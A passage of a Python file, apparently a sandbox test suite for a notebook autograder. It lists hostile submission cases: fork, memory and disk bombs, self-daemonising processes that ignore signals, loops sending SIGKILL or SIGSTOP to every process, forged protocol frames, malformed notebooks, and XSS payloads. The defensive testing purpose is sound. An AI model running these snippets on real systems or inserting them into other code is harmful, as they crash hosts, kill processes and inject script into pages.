    "    except (OSError, ValueError): pass\n"
)
REPLACED = ("TIMED_OUT", "RAISED", "FAILED", "NOT_DONE", "FORBIDDEN", "OUT_OF_MEMORY", "PASSED")

FLOOD = "return answer(['S', *(k * (2**61 - 1) for k in range(1, 40000))])"

EXHAUSTION = (
    cell_only("loops-in-a-cell", "H", "an endless cell", "while True: pass"),
    Attack(
        "loops-in-a-function",
        "H",
        "an endless function",
        sources={
            "sigmoid": "def sigmoid(h):\n    while True: pass\n\ndef sigmoid_prime(h):\n    return h"
        },
        most=17.0,
    ),
    cell_only(
        "ignores-signals",
        "H",
        "an endless cell that catches everything",
        IGNORES + "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    ),
    cell_only("hangs-in-c", "H", "an endless loop below Python", "x = 7 ** (10 ** 9)"),
    Attack(
        "hangs-in-regex",
        "H",
        "a pattern that backtracks",
        every="import re\nreturn re.match('(a+)+$', 'a' * 40 + 'b')",
        only="sse",
    ),
    cell_only(
        "many-slow-cells",
        "H",
        "forty cells of nearly the limit",
        *["import time\ntime.sleep(1.5)"] * 40,
    ),
    cell_only(
        "many-ending-cells", "H", "three hundred cells that end the process", *[EXIT_IN_CELL] * 300
    ),
    cell_only(
        "fork-bomb",
        "H",
        "processes without end",
        "import os, time\nfor _ in range(400):\n    try:\n        if os.fork() == 0: time.sleep(30)\n"
        "    except OSError: break",
    ),
    cell_only(
        "thread-bomb",
        "H",
        "threads without end",
        "import threading, time\ntry:\n    for _ in range(500):\n"
        "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
        "except RuntimeError: pass",
    ),
    Attack(
        "memory-bomb",
        "H",
        "memory without end",
        every="kept = []\nwhile True: kept.append(bytearray(1 << 26))",
        only="sse",
    ),
    cell_only(
        "memory-by-processes",
        "H",
        "memory in many processes at once",
        "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n"
        "        kept = bytearray(b'x') * (90 << 20); time.sleep(20)\ntime.sleep(0.7)",
    ),
    cell_only(
        "memory-by-arrays",
        "H",
        "absurd arrays",
        "import numpy as np\nkept = []\nfor n in (10**12, 10**10, 10**9):\n"
        "    try: kept.append(np.ones(n))\n    except MemoryError: pass",
    ),
    cell_only(
        "disk-bomb",
        "H",
        "200 MB in every folder",
        "import os\nfor folder in ('.', '/tmp', '/dev/shm', '/var/tmp', '/'):\n"
        "    for n in range(4):\n        try:\n            with open(f'{folder}/big{n}', 'wb') as f:\n"
        "                for _ in range(50): f.write(bytes(1 << 20))\n        except OSError: pass",
    ),
    cell_only(
        "inode-bomb",
        "H",
        "empty files without end",
        "import os\ntry:\n    for n in range(20000): open(f'f{n}', 'w').close()\nexcept OSError: pass",
    ),
    cell_only(
        "descriptor-bomb",
        "H",
        "descriptors without end",
        "import os\nkept = []\ntry:\n    while len(kept) < 5000: kept.append(os.pipe())\nexcept OSError: pass",
    ),
    cell_only(
        "timer-bomb",
        "H",
        "signals without end",
        "import signal\nsignal.signal(14, lambda *a: None)\nsignal.setitimer(0, 1e-5, 1e-5)",
    ),
    cell_only(
        "prints-150-mb",
        "H",
        "output without end",
        "import os, sys\nfor _ in range(150):\n    sys.stdout.write('x' * (1 << 20)); os.write(2, b'y' * (1 << 20))",
    ),
    Attack(
        "repr-of-200-mb",
        "H",
        "an answer whose text has 200 MB",
        cells=(
            "class Long:\n    __repr__ = __str__ = lambda s: 'x' * (200 << 20)\n"
            "class Wide(Exception):\n    __str__ = lambda s: 'x' * (200 << 20)",
        ),
        every="if args: raise Wide()\nreturn Long()",
        only="sse",
    ),
    cell_only(
        "shows-200-mb", "H", "a cell that ends in a huge text", "%time pass\n'x' * (200 << 20)"
    ),
    Attack(
        "recursion",
        "H",
        "calls itself without end",
        every="def down(n): return down(n + 1)\nreturn down(0)",
        verdicts=("RAISED", "FAILED"),
    ),
    Attack(
        "stack-overflow",
        "H",
        "recursion below Python",
        every="import sys\nsys.setrecursionlimit(10**9)\ndef down(n): return [*map(down, [n])]\nreturn down(0)",
    ),
    Attack("asks-for-input", "H", "waits for a person", every="return float(input('? '))"),
    Attack(
        "str-that-hangs",
        "H",
        "an exception whose text never comes",
        cells=("class Slow(Exception):\n    def __str__(self):\n        while True: pass",),
        every="raise Slow()",
        only="sse",
    ),
    Attack(
        "array-that-hangs",
        "H",
        "an object that never becomes an array",
        cells=("class Slow:\n    def __array__(self, *a, **k):\n        while True: pass",),
        every="return Slow()",
        only="sse",
    ),
    Attack(
        "endless-generator",
        "H",
        "an iterator without end",
        every="import itertools\nreturn itertools.count()",
        verdicts=("FAILED",),
    ),
    Attack(
        "holds-itself",
        "H",
        "a list that holds itself",
        every="a = []\na.append(a)\nb = {}\nb[1] = b\nreturn (a, b)",
    ),
    forged(
        "absurd-arrays",
        "H",
        "array headers that claim too much",
        "forge(b''.join(frame(['d', ['value', ['a', d, s, n]]]) for d, s, n in [\n"
        "        ('<f8', [2**62], 8), ('<f8', [0, 2**62], 0), ('<f8', [-1], 8), ('|O', [1], 8),\n"
        "        ('<M8[s]', [1], 8), ('<U999999', [2**40], 8), ('<f8', [1] * 40, 8),\n"
        "        ('<f8', [10**400], 8), ('<f8', [1], 10**30), ('|S0', [5], 0)]))",
    ),
    forged("four-gib-frame", "H", "a frame that claims 4 GiB", "forge(b'\\xff' * 64)"),
    forged(
        "header-beyond-frame",
        "H",
        "a header longer than its frame",
        "forge(struct.pack('>II', 100, 2**31) + b'x' * 96)",
    ),
    forged(
        "huge-header", "H", "a header of 15 MB", "forge(frame(b'[\"l\"' + b',0' * 7500000 + b']'))"
    ),
    forged("empty-frames", "H", "frames without anything", "forge(bytes(4096))"),
    Attack(
        "one-byte-a-second",
        "H",
        "an answer byte by byte",
        cells=(WIRE,),
        every="data = frame(['d', ['value', 1.0]])\nfor n in range(len(data)):\n"
        "    raw(data[n:n + 1]); time.sleep(1)",
        only="sse",
    ),
    forged("deep-json", "H", "200,000 brackets", "forge(frame(b'[' * 200000))"),
    forged(
        "deep-lists",
        "H",
        "a list in a list in a list",
        "forge(frame(b'[\"l\",' * 3000 + b'0' + b']' * 3000))",
    ),
    forged(
        "huge-integers",
        "H",
        "integers of a million digits",
        "forge(frame(b'[\"d\",[\"value\",' + b'9' * 1000000 + b']]'))",
    ),
    forged(
        "large-integers",
        "H",
        "integers that no float holds",
        "answer(['l', 10**4000, -10**300, 2**64, 1.5])",
    ),
    forged("not-text", "H", "a header that is not UTF-8", "forge(frame(b'\\xff\\xfe\\x00[1]'))"),
    forged(
        "tag-soup",
        "H",
        "tags that mean nothing",
        "forge(b''.join(frame(x) for x in [['z', 1], ['d', 5], ['d', [1]], ['S', ['l']], ['f', 0],\n"
        "        ['c', 'x', 1], ['b', -1], ['b', 10**9], [], [[]], {}, ['u', 'MARK'], None, 5, 'x']))",
    ),
    forged(
        "dtype-not-understood",
        "B",
        "an array type that NumPy does not know",
        "forge(b''.join(frame(['d', ['value', ['a', o + t, [1], n]]], bytes(n))\n"
        "        for o in ('|', '<', '>', '=') for t, n in\n"
        "        (('i8', 8), ('f8', 8), ('b1', 1), ('c32', 32), ('f16', 16), ('U1', 4), ('u1', 1))))",
    ),
    forged(
        "hash-flood",
        "H",
        "a set whose members all hash alike",
        FLOOD.removeprefix("return "),
        group="time",
        only="sse",
    ),
    Attack(
        "floods-callbacks",
        "H",
        "calls back without end",
        cells=(WIRE,),
        every="while True:\n    honest_send(channel, {'callback': 0, 'args': args})\n    channel.receive()",
        only="sse",
    ),
    Attack(
        "floods-without-reading",
        "H",
        "calls back and never reads",
        cells=(WIRE,),
        every="data = frame(['d', ['callback', 0], ['args', ['t', ['b', 1000000]]]], bytes(1000000))\n"
        "while True: raw(data)",
        only="sse",
    ),
    Attack(
        "sends-descriptors",
        "H",
        "descriptors sent along the channel",
        cells=(WIRE,),
        every="import socket\nr, w = os.pipe()\nfor _ in range(200):\n"
        "    socket.send_fds(channel._socket, [frame(['d', ['callback', 0], ['args', 1]])], [r, w] * 50)\n"
        "return 0.0",
    ),
    Attack(
        "closes-the-channel",
        "H",
        "hangs up",
        cells=(WIRE,),
        every="os.close(channel._socket.fileno())\ntime.sleep(60)",
    ),
    cell_only(
        "closes-it-in-a-cell",
        "H",
        "hangs up before any call",
        WIRE + "channel._socket.close()\ntime.sleep(60)",
    ),
    Attack(
        "callback-without-end",
        "H",
        "has a function of ours run for ever",
        TRAINING,
        every="import numpy as np\n"
        "if getattr(train, '__name__', '') == 'given_function':\n"
        "    return train(np.ones((1, 1)), np.ones(1), np.ones(1), 0.1, 10**12)\n"
        "return 0.0",
        group="callback",
    ),
    Attack(
        "callback-in-memory",
        "H",
        "has a function of ours make a matrix of 1.3 GB",
        BACKPROP_BASIC,
        every="import numpy as np\n"
        "if getattr(weight_steps, '__name__', '') == 'given_function':\n"
        "    big = np.ones(13000)\n"
        "    return weight_steps(big, big, 0.1, big, 0.1)\n"
        "return 0.0",
        group="memory",
    ),
    Attack(
        "callback-with-broken-generator",
        "B",
        "hands our function a generator that points astray",
        MULTILAYER,
        cells=(WIRE,),
        every="rng = ['g', 'MT19937', ['d', ['state', ['d', ['key', ['a', '<u4', [624], 2496]], "
        "['pos', -(2**30)]]]]]\n"
        "raw(frame(['d', ['callback', 0], ['args', ['t', 3, 2, rng]]], bytes(2496)))\n"
        "channel.receive()\nreturn 0.0",
        group="generator",
    ),
    forged(
        "short-generator",
        "B",
        "a generator with too few words",
        "forge(frame(['d', ['value', ['g', 'Philox', ['d', ['state', ['d', ['counter', ['l']], "
        "['key', ['l']]]], ['buffer', ['l']], ['buffer_pos', 4], ['has_uint32', 0], "
        "['uinteger', 0]]]]]))",
    ),
    forged(
        "odd-generators",
        "B",
        "generators whose states are not",
        "forge(b''.join(frame(['d', ['value', ['g', n, ['d', ['state', s], ['has_uint32', 'x']]]]])\n"
        "        for n in ('PCG64', 'MT19937', 'SFC64', 'PCG64DXSM', 'Philox', 'x')\n"
        "        for s in (5, ['l'], ['d'], ['d', ['key', 'x'], ['pos', 1e99]], 'x', None)))",
    ),
    forged(
        "odd-warned",
        "B",
        "`warned` is an array",
        "forge(frame(['d', ['value', 1.0], ['warned', ['a', '|b1', [2], 2]], ['changed', 5]], b'xx'))",
    ),
    forged(
        "odd-changed",
        "B",
        "`changed` holds everything",
        "forge(frame(['d', ['value', 1.0], ['warned', ['l', ['l']]], "
        "['changed', ['l', ['l'], 'x', -1, 10**30, None, True]]]))",
    ),
    forged(
        "odd-errno",
        "B",
        "an error number that is a list",
        "forge(frame(['d', ['raised', ['l', 1]], ['errno', ['l']], ['text', 5], ['line', 'x']]))",
    ),
    cell_only(
        "odd-errno-in-a-cell",
        "B",
        "the same, told of a cell",
        WIRE + "forge(frame(['d', ['raised', 'OSError'], ['errno', ['d']], ['line', True]]))",
    ),
    hollow(
        "odd-done",
        "B",
        "an array where a notebook's cells are about to run again",
        WIRE + "import autograder.sandbox.inside.worker as worker\n"
        "honest_answers = worker.Interpreter.answers\n"
        "def answers(self, request):\n"
        "    if request['op'] == 'notebook': yield {'done': np.array([True, False])}\n"
        "    yield from honest_answers(self, request)\n"
        "worker.Interpreter.answers = answers",
    ),
    forged(
        "text-matrix",
        "H",
        "one long text among thousands of short ones",
        "answer(['l', 'x' * 16000, *([''] * 17000)])",
        only="sse",
        group="memory",
    ),
    forged(
        "numbers-as-text",
        "M",
        "arrays of text that look like numbers",
        "forge(frame(['d', ['value', ['a', '<U3', [1], 12]]], '1.0'.encode('utf-32-le')))",
    ),
)

# P: surviving -------------------------------------------------------------------------------------

DAEMON = """
import ctypes, os, signal, subprocess, time
libc = ctypes.CDLL(None)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for n in range(1, 64):
            try: signal.signal(n, signal.SIG_IGN)
            except (OSError, ValueError): pass
        libc.prctl(1, 0, 0, 0, 0)
        libc.prctl(15, b"@PROCESS@"[:15], 0, 0, 0)
        os.environ["REMAINS"] = "@PROCESS@"
        try: os.execve("/bin/sleep", ["@PROCESS@", "600"], os.environ)
        except OSError: time.sleep(600)
    os._exit(0)
"""

REMAINS = (
    cell_only("daemon", "P", "a process of a session of its own", DAEMON),
    Attack(
        "daemon-in-function",
        "P",
        "the same from the call",
        every="exec(DAEMON)\nreturn 0.0",
        cells=("DAEMON = '''" + DAEMON.strip() + "'''",),
    ),
    cell_only(
        "nohup",
        "P",
        "by the shell",
        "import subprocess\n"
        "for c in ('nohup sleep 601 &', 'setsid -f sleep 602', '(sleep 603 & disown) &'):\n"
        "    try: subprocess.run(['bash', '-c', 'REMAINS=@PROCESS@ ' + c], timeout=2)\n"
        "    except Exception: pass",
    ),
    cell_only(
        "threads-remain",
        "P",
        "a thread and an exit handler that never end",
        "import atexit, threading, time\natexit.register(time.sleep, 600)\n"
        "threading.Thread(target=time.sleep, args=(600,)).start()",
    ),
)

# B: stopping the batch, or being unreadable -------------------------------------------------------

EVERYONE = "[-1, 0, *range(1, 600)]"


def _written(data: bytes) -> Callable[[Notebook], Any]:
    return lambda content: data


def _truncated(content: Notebook) -> bytes:
    return json.dumps(content).encode()[:3000]


def _old_format(content: Notebook) -> Notebook:
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [content]}


def _format_minor(content: Notebook) -> None:
    content["nbformat_minor"] = 99


def _schema(version: Any) -> Callable[[Notebook], None]:
    def edit(content: Notebook) -> None:
        for cell in content["cells"]:
            if "nbgrader" in cell["metadata"]:
                cell["metadata"]["nbgrader"]["schema_version"] = version

    return edit


def _odd_metadata(content: Notebook) -> None:
    odd: list[Any] = [None, [], "x", 5, {"nbgrader": 7}, {"nbgrader": {"grade_id": {"a": 1}}}]
    content["cells"] += [{**code_cell("1"), "metadata": one} for one in odd]
    content["cells"] += [None, 5, [], {}, {"cell_type": 7, "source": {}}, {"source": [1, 2]}]
    content["metadata"] = "none"


def _many_cells(content: Notebook) -> None:
    content["cells"] += [code_cell("")] * 6000


def _put_in_solutions(text: str) -> Callable[[Notebook], None]:
    def edit(content: Notebook) -> None:
        for cell in _solutions(content):
            cell["source"] += text

    return edit


def _markdown(text: str) -> Callable[[Notebook], None]:
    def edit(content: Notebook) -> None:
        content["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text})

    return edit


def _as_folder(path: Path, data: bytes) -> None:
    path.mkdir()
    (path / "notebook.ipynb").write_bytes(data)


def _as_fifo(path: Path, data: bytes) -> None:
    os.mkfifo(path)


def _timestamp_fifo(path: Path, data: bytes) -> None:
    path.write_bytes(data)
    os.mkfifo(path.with_name("timestamp.txt"))


def _sparse(path: Path, data: bytes) -> None:
    with path.open("wb") as file:
        file.truncate(100 << 20)


UNREADABLE: dict[str, Any] = {"statuses": ("unreadable",)}

BATCH = (
    cell_only(
        "kills-everyone",
        "B",
        "SIGKILL to every number",
        f"import os\nfor p in {EVERYONE}:\n    if p not in (os.getpid(), 0, -1):\n"
        "        try: os.kill(p, 9)\n        except OSError: pass\n"
        "try: os.kill(-1, 9)\nexcept OSError: pass",
    ),
    cell_only(
        "stops-everyone",
        "B",
        "SIGSTOP to every number",
        f"import os\nfor p in {EVERYONE}:\n    if p not in (os.getpid(), 0):\n"
        "        try: os.kill(p, 19)\n        except OSError: pass\n"
        "try: os.killpg(0, 19)\nexcept OSError: pass",
    ),
    cell_only(
        "limits-everyone",
        "B",
        "prlimit, affinity and priority of others",
        f"import os, resource\nfor p in {EVERYONE}:\n    if p > 0 and p != os.getpid():\n"
        "        for act in (lambda: resource.prlimit(p, 0, (1, 1)),\n"
        "                    lambda: os.sched_setaffinity(p, {0}),\n"
        "                    lambda: os.setpriority(0, p, 19)):\n"
        "            try: act()\n            except OSError: pass\n"
        "for kind in (1, 2):\n    try: os.setpriority(kind, 0, 19)\n    except OSError: pass",
    ),
    cell_only(
        "signals-by-descriptor",
        "B",
        "F_SETOWN and FIOSETOWN aimed at others",
        f"import fcntl, os, struct\nr, w = os.pipe()\nfor p in {EVERYONE}:\n"
        "    for act in (lambda: fcntl.fcntl(r, 8, p), lambda: fcntl.fcntl(r, 10, 9),\n"
        "                lambda: fcntl.ioctl(r, 0x8901, struct.pack('i', p)),\n"
        "                lambda: fcntl.fcntl(r, 4, 0o20000)):\n"
        "        try: act()\n        except OSError: pass\nos.write(w, b'x')",
    ),
    Attack("kills-itself", "B", "SIGKILL to itself", every="import os\nos.kill(os.getpid(), 9)"),
    Attack("stops-itself", "B", "SIGSTOP to itself", every="import os\nos.kill(os.getpid(), 19)"),
    Attack("segmentation-fault", "B", "a crash in C", every="import ctypes\nctypes.string_at(0)"),
    Attack("truncated", "B", "cut short", edit=_truncated, **UNREADABLE),
    Attack("not-json", "B", "no JSON", edit=_written(b"import numpy as np\n"), **UNREADABLE),
    Attack(
        "not-a-notebook", "B", "JSON of another kind", edit=_written(b'{"a": [1]}'), **UNREADABLE
    ),
    Attack("not-utf-8", "B", "Latin-1", edit=_written(b'{"cells": "\xe9\xff"}'), **UNREADABLE),
    Attack("empty-file", "B", "nothing at all", edit=_written(b""), **UNREADABLE),
    Attack("old-format", "B", "nbformat 3", edit=_old_format, **UNREADABLE),
    Attack("newer-format", "B", "nbformat 4.99", edit=_format_minor, **UNREADABLE),
    Attack("hundred-mb", "B", "a file of 100 MB", place=_sparse, **UNREADABLE),
    Attack(
        "a-folder",
        "B",
        "a folder of that name, with the notebook in it",
        place=_as_folder,
        most=ALL,
    ),
    Attack("a-fifo", "B", "a pipe of that name", place=_as_fifo, **UNREADABLE),
    Attack(
        "timestamp-fifo",
        "B",
        "a pipe where the timestamp should be",
        place=_timestamp_fifo,
        most=ALL,
    ),
    Attack("schema-1", "B", "schema_version 1", edit=_schema(1), most=ALL),
    Attack("schema-99", "B", "schema_version 99", edit=_schema(99), most=ALL),
    Attack("schema-odd", "B", "schema_version is a list", edit=_schema([1]), most=ALL),
    Attack("deep-nesting", "B", "100,000 brackets", edit=_written(b"[" * 100_000), **UNREADABLE),
    Attack(
        "deep-objects", "B", "100,000 objects", edit=_written(b'{"cells":' * 100_000), **UNREADABLE
    ),
    Attack("many-cells", "B", "6,000 cells", edit=_many_cells, most=ALL),
    Attack("odd-metadata", "B", "cells and metadata of every type", edit=_odd_metadata, most=ALL),
    Attack(
        "huge-number",
        "B",
        "a number of 10,000 digits",
        edit=_written(b'{"nbformat": 4, "cells": [], "x": ' + b"9" * 10_000 + b"}"),
        **UNREADABLE,
    ),
    Attack("null-bytes", "B", "null bytes in the source", edit=_put_in_solutions("\n\0"), most=ALL),
    Attack(
        "deep-source",
        "B",
        "source of 100,000 brackets",
        edit=_put_in_solutions("\n" + "(" * 100_000),
    ),
    Attack(
        "long-expression",
        "B",
        "a sum of 60,000 terms",
        edit=_put_in_solutions("\nx = 0" + "+1" * 60_000),
        most=ALL,
    ),
    Attack(
        "long-negation", "B", "60,000 signs", edit=_put_in_solutions("\nx = " + "-" * 60_000 + "1")
    ),
    Attack(
        "surrogate-in-solution",
        "B",
        "half of a surrogate pair in a solution",
        edit=_put_in_solutions("\n# \ud800"),
        most=ALL,
        group="surrogate",
    ),
    Attack(
        "surrogate-in-text",
        "B",
        "half of a surrogate pair in a text",
        edit=_markdown("\udfff \ud800"),
        most=ALL,
    ),
    Attack(
        "surrogate-in-exception",
        "B",
        "half of a surrogate pair in what a cell raises",
        cells=("raise ValueError('\\ud800 \\x1b[31m \\0')",),
        most=ALL,
    ),
    Attack(
        "blank-lines",
        "B",
        "a solution that fails, followed by 20,000 blank lines",
        every=WRONG,
        sources={"sigmoid": "raise ValueError" + "\n" * 20_000},
        group="time",
    ),
    Attack(
        "long-source",
        "B",
        "a list of two million numbers in a solution",
        sources={"sse": "x = [" + "1," * 2_000_000 + "]"},
        most=17.0,
        group="memory",
    ),
    Attack(
        "name-is-markup",
        "X",
        "the student's name is HTML",
        statuses=("unclear",),
        student="<img src=x onerror=alert(1)>",
    ),
    Attack(
        "name-is-formula", "X", "the student's name is a formula", most=ALL, student="=HYPERLINK(1)"
    ),
    Attack(
        "odd-timestamp",
        "B",
        "a timestamp that is not one",
        most=ALL,
        extra={"timestamp.txt": b"99999-99-99 \xff\0 <script>alert(1)</script>"},
    ),
)

# X: script in a page ------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"


def _outputs(content: Notebook) -> None:
    kinds = {
        "text/html": SCRIPT,
        "image/svg+xml": "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "text/latex": r"$\href{javascript:alert(1)}{x}$",
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
        "text/markdown": SCRIPT,
        "image/png": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    }
    for cell in content["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "metadata": {}, "data": {kind: value}}
                for kind, value in kinds.items()
            ]


def _attachments(content: Notebook) -> None:
    content["cells"].append(
        {
            "cell_type": "markdown",
            "metadata": {"onload": SCRIPT},
            "attachments": {"x": {"image/svg+xml": "<svg onload=alert(1)>"}},
            "source": "![x](attachment:x) [y](javascript:alert(1))",
        }
    )


def _ids_of_markup(content: Notebook) -> None:
    for number, name in enumerate((SCRIPT, '"><script>alert(1)</script>', "../../../x")):
        meta = {"grade_id": name, "grade": True, "solution": True, "locked": False, "points": 1}
        content["cells"].append(code_cell(f"{number}", nbgrader={**meta, "schema_version": 3}))


PAGES = (
    Attack("html-output", "X", "outputs of every active kind", edit=_outputs, most=ALL),
    Attack(
        "markdown-script",
        "X",
        "text with an event handler",
        edit=_markdown(SCRIPT),
        most=ALL,
    ),
    Attack(
        "attachments",
        "X",
        "an attached picture with a script",
        edit=_attachments,
        most=ALL,
    ),
    Attack("ids-of-markup", "X", "grade_ids that are HTML", edit=_ids_of_markup, most=ALL),
    Attack(
        "exception-of-markup",
        "X",
        "a cell raises HTML",
        cells=(f"raise ValueError({SCRIPT!r})",),
        most=ALL,
    ),
    Attack(
        "displays-script",
        "X",
        "a cell displays HTML and JavaScript",
        cells=(
            f"from IPython.display import HTML, Javascript, display\n"
            f"display(HTML({SCRIPT!r})); display(Javascript('alert(1)'))",
        ),
        most=ALL,
    ),
    Attack(
        "raises-terminal-codes",
        "X",
        "a cell raises control characters",
        cells=("raise ValueError('\\x1b]0;x\\x07\\x1b[2J\\r\\n\\u202e')",),
        most=ALL,
    ),
    Attack(
        "answers-markup",
        "X",
        "HTML as answers and exception texts",
        every=f"raise ValueError({SCRIPT!r})",
    ),
)

ATTACKS: tuple[Attack, ...] = (
    *MARKS,
    *LEAKS,
    *WRITES,
    *NETWORK,
    *EXHAUSTION,
    *REMAINS,
    *BATCH,
    *PAGES,
)


def groups() -> dict[str, list[Attack]]:
    """The attacks by the class in which they are graded."""
    found: dict[str, list[Attack]] = {}
    for attack in ATTACKS:
        found.setdefault(attack.group, []).append(attack)
    return found
